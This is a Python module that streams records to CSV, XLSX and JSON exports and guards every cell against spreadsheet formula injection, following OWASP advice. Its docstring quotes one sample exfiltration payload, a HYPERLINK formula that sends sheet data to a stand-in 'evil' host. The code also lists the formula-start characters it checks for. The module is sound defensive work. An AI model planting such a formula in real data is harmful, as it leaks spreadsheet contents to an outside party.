"""Writing records as CSV or XLSX files that spreadsheets open safely.

Every export of Keyfolio (the portfolio, assessments, revenue) is written here, so one
rule protects every cell. A spreadsheet runs a cell that starts with `=`, `+`, `-` or
`@` as a formula (and a leading tab or carriage return can hide one), so an account
named `=HYPERLINK("http://evil?"&A1)` would send the sheet's data away the moment a
colleague opens the export. Following the OWASP advice on CSV injection, such text is
written with a single quote in front (`'=HYPERLINK(...)`): spreadsheets show it as
text. Real numbers (int, float, Decimal) stay numbers, negative ones too; in CSV a
text that is a plain number ("-12.5") is left as it is, since it can only be read as
that number.

In CSV every text cell is also quoted, so that a separator inside a value (a `;` in a
comma file opened where Excel splits on semicolons, or a quote that tries to close the
cell early) can never start a new cell that begins with a formula. In XLSX every text
cell is stored as a string whatever it looks like, so no text becomes a formula or an
error value (`#N/A`).

The writers stream: they take any iterable of records and write each row as it comes,
so an export of any size needs the same memory. JSON (for the CLI) streams too: an
array with one record per line. This module knows nothing of Keyfolio's
apps; each app builds its records and names its columns.
"""

import csv
import json
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import IO, Any

Record = Mapping[str, Any]

# The characters a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_SHEET_TITLE_MAX = 31  # Excel refuses longer sheet names.


@dataclass(frozen=True)
class Month:
    """A calendar month: "2024-03" in CSV, a date cell shown as 2024-03 in XLSX."""

    first_day: date

    def __str__(self) -> str:
        return f"{self.first_day:%Y-%m}"


def formula_safe(text: str) -> str:
    """`text`, with a single quote in front if a spreadsheet would run it as a formula.
    Leading spaces and line breaks do not hide one: some spreadsheets trim them."""
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def formula_unquoted(text: str) -> str:
    """The inverse of `formula_safe`, for reading a file back: the quote comes off only
    where `formula_safe` would have put it, so an exported name imports as it was."""
    if text.startswith("'") and formula_safe(text[1:]) == text:
        return text[1:]
    return text


def csv_value(value: Any) -> Any:
    """A value as a CSV cell: numbers as they are, dates in ISO form, None as an empty
    cell, and text made formula-safe unless it is a plain number."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, date):  # A datetime is a date too.
        return value.isoformat()
    text = str(value)
    return text if PLAIN_NUMBER.fullmatch(text) else formula_safe(text)


def csv_lines(records: Iterable[Record], fields: Sequence[str]) -> Iterator[str]:
    """The CSV text of `records` (a header row of `fields`, then one line per record,
    missing keys left empty), one line at a time as the records come."""
    # QUOTE_NONNUMERIC quotes every cell that is not a number: see the module's doc.
    writer = csv.writer(_LineBuffer(), quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    yield writer.writerow([csv_value(field) for field in fields])
    for record in records:
        yield writer.writerow([csv_value(record.get(field)) for field in fields])


def json_lines(records: Iterable[Record]) -> Iterator[str]:
    """`records` as the text of a JSON array with one record per line, a line at a time
    as the records come: the array streams (no list of every record is ever built),
    and each line is written by the json module's fast encoder. Dates are in ISO form."""
    encode = json.JSONEncoder(ensure_ascii=False, default=_iso_date).encode
    separator = "[\n"
    for record in records:
        yield separator + encode(record)
        separator = ",\n"
    yield "[]\n" if separator == "[\n" else "\n]\n"


def records_write_json(records: Iterable[Record], stream: IO[str]) -> int:
    """Write `records` to `stream` as a JSON array (see `json_lines`); return how many."""
    rows = -1  # The closing line is not a record.
    for line in json_lines(records):
        stream.write(line)
        rows += 1
    return max(rows, 0)


def _iso_date(value: Any) -> str:
    if isinstance(value, date):
        return value.isoformat()
    raise TypeError(f"{type(value).__name__} is not JSON serializable")


def records_write_csv(records: Iterable[Record], stream: IO[str], fields: Sequence[str]) -> int:
    """Write `records` to `stream` as CSV with a header row; return how many were written."""
    rows = -1  # The header is not a record.
    for line in csv_lines(records, fields):
        stream.write(line)
        rows += 1
    return rows


def records_write_xlsx(
    records: Iterable[Record],
    file: IO[bytes] | str,
    fields: Sequence[str],
    *,
    title: object,
    widths: Mapping[str, float] | None = None,
) -> int:
    """Write `records` to `file` as an XLSX workbook of one sheet called `title`, with a
    bold, frozen header row of `fields`; return how many records were written.

    Numbers are number cells, dates date cells, a `Month` a date cell shown as
    YYYY-MM, and text a string cell made formula-safe. `widths` sets the width of some
    columns (in characters). The workbook is write-only: rows go to a temporary file
    as they come, so memory stays flat whatever the number of records."""
    # Imported here, as in keyfolio.core.tables: only XLSX exports pay for openpyxl.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    # A write-only sheet takes column styles and panes only before its first row.
    for index, field in enumerate(fields, start=1):
        width = (widths or {}).get(field, max(len(field) + 2, 10))
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = [WriteOnlyCell(sheet, value=formula_safe(field)) for field in fields]
    for cell in header:
        cell.font = bold
    sheet.append(header)
    rows = 0
    for record in records:
        sheet.append([_xlsx_value(sheet, record.get(field)) for field in fields])
        rows += 1
    workbook.save(file)
    return rows


def _xlsx_value(sheet, value: Any) -> Any:
    """What to append for `value`: the value itself where openpyxl's own guess of its
    type is right (numbers, dates, most text), else a cell that says what it is."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

    if value is None or isinstance(value, int | float | Decimal | date):
        return value
    if isinstance(value, Month):
        cell = WriteOnlyCell(sheet, value=value.first_day)
        cell.number_format = "yyyy-mm"
        return cell
    # XML cannot carry most control characters, and openpyxl refuses them.
    text = formula_safe(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    if not text:
        return None  # A blank cell, as for None.
    if text.startswith("=") or text in ERROR_CODES:
        # openpyxl would write "=..." as a formula (formula_safe leaves none, but this
        # must not rest on it) and "#N/A" as an error value: text stays text.
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"
        return cell
    return text


def _sheet_title(title: object) -> str:
    """A sheet name Excel accepts: without the characters it forbids, 31 at most."""
    return re.sub(r"[\\/*?:\[\]]", " ", str(title))[:XLSX_SHEET_TITLE_MAX].strip() or "Sheet"


class _LineBuffer:
    """A file that hands back what is written to it, so that csv.writer yields its
    lines one by one instead of filling a buffer (Django's streaming CSV recipe)."""

    def write(self, text: str) -> str:
        return text
